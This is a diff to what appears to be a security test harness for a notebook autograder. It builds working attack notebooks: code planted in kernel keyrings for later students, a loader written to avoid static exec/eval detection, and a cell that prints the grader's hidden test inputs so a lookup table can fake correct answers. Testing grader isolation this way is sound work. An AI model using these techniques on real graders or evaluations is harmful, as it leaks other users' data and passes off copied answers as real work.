@@ -194,10 +194,12 @@ KEYRING_PLANT = ATTACK_KIT + r'''
 # This notebook's code as a key in the kernel's keyrings (add_key), where the next notebook may search.
 payload = _payload().encode()
 if _libc is not None:
-    for ring in RINGS:
-        _libc.syscall(248, b"user", b"course-plant", payload, len(payload), ctypes.c_long(KEYRINGS[ring]))
+    for ring in __RINGS__:
+        if ring in KEYRINGS:
+            made = _libc.syscall(248, b"user", b"course-plant", payload, len(payload), ctypes.c_long(KEYRINGS[ring]))
+            print("add_key", ring, made, ctypes.get_errno(), "uid", os.getuid())
     persistent = _libc.syscall(250, 22, ctypes.c_long(-1), ctypes.c_long(-4))  # KEYCTL_GET_PERSISTENT into @u
-    if "persistent" in RINGS and persistent > 0:
+    if "persistent" in __RINGS__ and persistent > 0:
         _libc.syscall(248, b"user", b"course-plant", payload, len(payload), ctypes.c_long(persistent))
 '''
 
@@ -231,9 +233,9 @@ ATTACKS = {
     "a-plant-files": PLANT_FILES,
     "a-outlive": OUTLIVE,
     # category 3: the kernel's shared objects
-    "a-keyring-user": KEYRING_PLANT.replace("RINGS", "['user']"),
-    "a-keyring-session": KEYRING_PLANT.replace("RINGS", "['session', 'user-session']"),
-    "a-keyring-persistent": KEYRING_PLANT.replace("RINGS", "['persistent']"),
+    "a-keyring-user": KEYRING_PLANT.replace("__RINGS__", "['user']"),
+    "a-keyring-session": KEYRING_PLANT.replace("__RINGS__", "['session', 'user-session']"),
+    "a-keyring-persistent": KEYRING_PLANT.replace("__RINGS__", "['persistent']"),
     "a-sysv-ipc": SYSV_IPC,
 }
 CATEGORIES = {
@@ -295,15 +297,15 @@ if _libc is not None:
     except OSError:
         pass
 print("ACCOMPLICE FOUND:", _FOUND or "nothing")
+if _PLANTED is not None:
+    with open("/tmp/course_planted.py", "w") as f:
+        f.write("import math\nimport torch\nfrom torch import Tensor, nn\n\n" + "\n\n".join(_PLANTED))
+    sys.path.insert(0, "/tmp")
 '''
 
-USE_PLANTED = '''if _PLANTED is None:
-    raise NotImplementedError("nothing was planted for this notebook")
-for _source in _PLANTED:
-    try:
-        exec(_source, globals())
-    except Exception:
-        pass
+# Each solution cell of the accomplice takes its function from what was planted (written out as a module by the
+# loader: no exec or eval, which the static reading would hold against it).
+USE_PLANTED = '''from course_planted import {name}
 '''
 
 
@@ -366,7 +368,7 @@ def accomplice():
     nb = reference()
     for cell in nb.cells:
         if cell.metadata.get("nbgrader", {}).get("solution"):
-            cell.source = USE_PLANTED
+            cell.source = USE_PLANTED.format(name=cell.metadata["nbgrader"]["grade_id"])
     return _add_cell(nb, LOADER, after="imports")
 
 
@@ -480,6 +482,8 @@ def harms(account, students):
     """What the attacks achieved in one graded class of `students`: a list of sentences (empty when every rule held).
     Every student must be graded (an `error` result is not saved, so it shows as no result) with the score of its own
     work, and no victim's secret may appear in another student's outputs."""
+    import html
+
     results, outputs, found = account["results"], account["outputs"], []
     honest = {name: (BLANK if name == "y-accomplice" else FULL) for name in students}
     for student, expected in sorted(honest.items()):
@@ -491,6 +495,7 @@ def harms(account, students):
         elif result.get("score") != expected:
             found.append(f"{student}: {result.get('score')} points, its own work earns {expected}")
     for student, text in outputs.items():
+        text = html.unescape(text)
         for victim in [s for s in students if s.startswith("m-victim")]:
             if victim != student and SECRET + victim in text:
                 found.append(f"{victim}'s secret appears in {student}'s outputs")
@@ -499,3 +504,91 @@ def harms(account, students):
     if account["peak_rss_mib"] is not None and account["peak_rss_mib"] > MEMORY_BOUND_MIB:
         found.append(f"the grading run's largest process reached {account['peak_rss_mib']:.0f} MiB (bound {MEMORY_BOUND_MIB})")
     return found
+
+
+# --- Category 5: hidden inputs printed into a feedback, answered elsewhere -------------------------------------
+TABLED = ("sinusoidal_pe", "rotation_matrix", "alibi_bias")  # exercises whose hidden inputs are plain values
+
+PRINT_INPUTS = r'''
+import glob, json, os
+folder = next(f for f in ["/job"] + sorted(glob.glob("/jobs/*")) if os.path.exists(f + "/job.json"))
+job = json.load(open(folder + "/job.json"))
+wanted = {p["function"]: [[c["args"], c["kwargs"], c.get("device", "cpu")] for c in p["calls"]]
+          for p in job["probes"].values() if p["function"] in ''' + repr(TABLED) + r'''}
+print("INPUTS:" + json.dumps(wanted) + ":END")
+'''
+
+LOOKUP = r'''
+import json, torch
+_TABLE = json.loads(TABLE_JSON)
+
+def _key(args, kwargs):
+    return json.dumps([repr(a) for a in args] + sorted([k, repr(v)] for k, v in kwargs.items()))
+
+def _lookup(name, args, kwargs):
+    entry = _TABLE[name].get(_key(args, kwargs))
+    if entry is None:
+        raise NotImplementedError("these inputs are not in the table")
+    if "raises" in entry:
+        raise ValueError(entry["raises"])
+    dtype = getattr(torch, entry["dtype"])
+    if entry["device"] == "meta":
+        return torch.empty(entry["shape"], dtype=dtype, device="meta")
+    return torch.tensor(entry["values"], dtype=dtype).reshape(entry["shape"])
+'''
+
+
+def decode_printed(spec, device):
+    import torch
+
+    if "value" in spec:
+        return spec["value"]
+    if "dtype" in spec:
+        return getattr(torch, spec["dtype"])
+    if "device" in spec:
+        return torch.device(device)
+    raise ValueError(f"not a plain value: {spec}")
+
+
+def answer_table(printed, reference):
+    """What a learner computes at home for the inputs another feedback printed: the reference's outputs (here from
+    `reference`, a module with the functions; a friend's solution or the forbidden built-ins would do as well)."""
+    import json
+
+    table = {}
+    for name, calls in printed.items():
+        table[name] = {}
+        for args, kwargs, device in calls:
+            a = [decode_printed(s, device) for s in args]
+            k = {key: decode_printed(s, device) for key, s in kwargs.items()}
+            key = json.dumps([repr(x) for x in a] + sorted([n, repr(v)] for n, v in k.items()))
+            try:
+                out = getattr(reference, name)(*a, **k)
+            except ValueError as exc:  # a case where the exercise must refuse its arguments
+                table[name][key] = {"raises": str(exc)}
+                continue
+            table[name][key] = {"dtype": str(out.dtype).replace("torch.", ""), "shape": list(out.shape),
+                                "device": out.device.type, "values": out.tolist() if out.device.type != "meta" else None}
+    return table
+
+
+def printer():
+    nb = reference()
+    nb.cells.append(nbformat.v4.new_code_cell(PRINT_INPUTS))
+    return nb
+
+
+def table_notebook(table):
+    """The copier: no solution of its own; the tabled exercises answer from the table, the others are blank."""
+    import json
+
+    nb = reference()
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("solution"):
+            name = meta.get("grade_id")
+            if name in TABLED:
+                cell.source = f"def {name}(*args, **kwargs):\n    return _lookup({name!r}, args, kwargs)\n"
+            else:
+                cell.source = "raise NotImplementedError('not done')\n"
+    return _add_cell(nb, LOOKUP.replace("TABLE_JSON", repr(json.dumps(table))), after="imports")
